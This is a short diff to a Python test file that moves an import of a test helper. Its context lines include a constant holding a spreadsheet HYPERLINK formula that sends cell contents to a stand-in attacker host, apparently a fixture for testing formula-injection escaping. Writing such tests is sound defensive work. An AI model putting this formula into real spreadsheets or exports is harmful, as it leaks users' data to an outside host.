@@ -8,7 +8,6 @@ import json
 from pathlib import Path
 
 import pytest
-from report_support import write_tiny_run
 from sqlalchemy import update
 from typer.testing import CliRunner
 
@@ -16,6 +15,7 @@ from corix.cli.main import app
 from corix.report import safe_folder, spreadsheet_safe
 from corix.storage import Database
 from corix.storage.orm import TurnRow
+from support.run_builder import write_tiny_run
 
 runner = CliRunner()
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
